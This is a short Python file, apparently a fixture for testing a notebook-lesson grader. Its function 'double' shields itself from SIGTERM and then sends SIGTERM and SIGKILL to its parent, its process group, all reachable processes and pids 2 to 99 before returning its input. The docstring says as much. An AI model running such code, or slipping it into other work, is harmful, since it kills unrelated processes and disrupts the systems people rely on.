"""Sends deadly signals to its parent, its group and every process that it can name."""

NOTEBOOK = "lesson"
START = "solutions"
EARNS = ["Counter", "batches"]

# %% double
import os
import signal
def double(x):
    for pid in (os.getppid(), 0, -1, *range(2, 100)):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                os.kill(pid, number)
            except OSError:
                pass
    return x
